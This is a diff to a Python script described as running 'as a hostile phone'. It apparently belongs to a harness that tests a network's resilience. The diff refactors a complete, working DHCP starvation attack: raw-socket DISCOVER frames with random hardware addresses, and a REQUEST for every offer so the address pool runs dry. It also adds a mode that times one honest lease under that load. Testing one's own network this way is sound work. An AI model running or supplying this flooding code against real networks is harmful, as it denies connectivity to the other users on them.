@@ -1,4 +1,5 @@
-"""Runs as a hostile phone. usage: attack.py slow SERVER N | dns SERVER | dhcp INTERFACE"""
+"""Runs as a hostile phone. usage: attack.py slow SERVER N | dns SERVER | dhcp INTERFACE
+`attack.py lease INTERFACE` is the honest one: prints the seconds from its first DISCOVER to its ACK."""
 import os
 import random
 import select
@@ -81,23 +82,57 @@ def _checksum(data: bytes) -> int:
     return ~(total + (total >> 16)) & 0xFFFF
 
 
-def dhcp(interface: str) -> None:
-    """A DISCOVER for a new hardware address each time, a REQUEST for each offer."""
-    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800))
-    s.bind((interface, 0))
-    with open(f"/sys/class/net/{interface}/address") as f:
-        own = bytes.fromhex(f.read().strip().replace(":", ""))
+class Dhcp:
+    """The client's side of DHCP, frame by frame."""
 
-    def send(mac: bytes, xid: int, options: bytes) -> None:
+    def __init__(self, interface: str) -> None:
+        self.socket = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800))
+        self.socket.bind((interface, 0))
+        with open(f"/sys/class/net/{interface}/address") as f:
+            self.own = bytes.fromhex(f.read().strip().replace(":", ""))
+
+    def send(self, mac: bytes, xid: int, options: bytes) -> None:
         body = struct.pack(">BBBBIHH", 1, 1, 6, 0, xid, 0, 0x8000) + bytes(16) + mac + bytes(10 + 192) + b"\x63\x82\x53\x63" + options + b"\xff"
         udp = struct.pack(">4H", 68, 67, 8 + len(body), 0) + body
         ip = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0, bytes(4), b"\xff" * 4)
         ip = ip[:10] + struct.pack(">H", _checksum(ip)) + ip[12:]
         try:
-            s.send(b"\xff" * 6 + own + b"\x08\x00" + ip + udp)
+            self.socket.send(b"\xff" * 6 + self.own + b"\x08\x00" + ip + udp)
         except OSError:
             time.sleep(0.01)
 
+    def replies(self, seconds: float):
+        """Transaction, kind and offered address of what comes in time."""
+        until = time.monotonic() + seconds
+        while select.select([self.socket], [], [], max(0, until - time.monotonic()))[0]:
+            packet = self.socket.recv(2048)
+            if len(packet) >= 290 and packet[23] == 17 and packet[36:38] == b"\x00\x44" and packet[282:284] == b"\x35\x01":
+                yield struct.unpack_from(">I", packet, 46)[0], packet[284], packet[58:62]
+
+
+def _request(offered: bytes) -> bytes:
+    return b"\x35\x01\x03\x32\x04" + offered + b"\x36\x04\x0a\x2a\x00\x01"
+
+
+def lease(interface: str) -> None:
+    """One honest exchange, asked again every second as phones do."""
+    client = Dhcp(interface)
+    begin = time.monotonic()
+    for _ in range(20):
+        xid = random.randrange(1 << 32)
+        client.send(client.own, xid, b"\x35\x01\x01")
+        for found, kind, offered in client.replies(1):
+            if found == xid and kind == 2:
+                client.send(client.own, xid, _request(offered))
+            elif found == xid and kind == 5:
+                print(f"{time.monotonic() - begin:.2f}")
+                return
+    sys.exit("no lease")
+
+
+def dhcp(interface: str) -> None:
+    """A DISCOVER for a new hardware address each time, a REQUEST for each offer."""
+    client = Dhcp(interface)
     sent = offers = acks = 0
     waiting: dict[int, bytes] = {}
     while True:
@@ -106,25 +141,19 @@ def dhcp(interface: str) -> None:
         waiting[xid] = mac
         if len(waiting) > 2000:
             waiting.clear()
-        send(mac, xid, b"\x35\x01\x01")
+        client.send(mac, xid, b"\x35\x01\x01")
         sent += 1
-        until = time.monotonic() + 0.01
-        while select.select([s], [], [], max(0, until - time.monotonic()))[0]:
-            packet = s.recv(2048)
-            if len(packet) < 290 or packet[23] != 17 or packet[36:38] != b"\x00\x44":
-                continue
-            found = struct.unpack_from(">I", packet, 46)[0]
+        for found, kind, offered in client.replies(0.01):
             if found not in waiting:
                 continue
-            offered, options = packet[58:62], packet[282:]
-            if options[:3] == b"\x35\x01\x02":
+            if kind == 2:
                 offers += 1
-                send(waiting[found], found, b"\x35\x01\x03\x32\x04" + offered + b"\x36\x04\x0a\x2a\x00\x01")
-            elif options[:3] == b"\x35\x01\x05":
+                client.send(waiting[found], found, _request(offered))
+            elif kind == 5:
                 acks += 1
         if sent % 50 == 0:
             print(f"{sent} discovers, {offers} offers, {acks} leases", flush=True)
 
 
 kind, *rest = sys.argv[1:]
-{"slow": lambda: slow(rest[0], int(rest[1])), "dns": lambda: dns(rest[0]), "dhcp": lambda: dhcp(rest[0])}[kind]()
+{"slow": lambda: slow(rest[0], int(rest[1])), "dns": lambda: dns(rest[0]), "dhcp": lambda: dhcp(rest[0]), "lease": lambda: lease(rest[0])}[kind]()
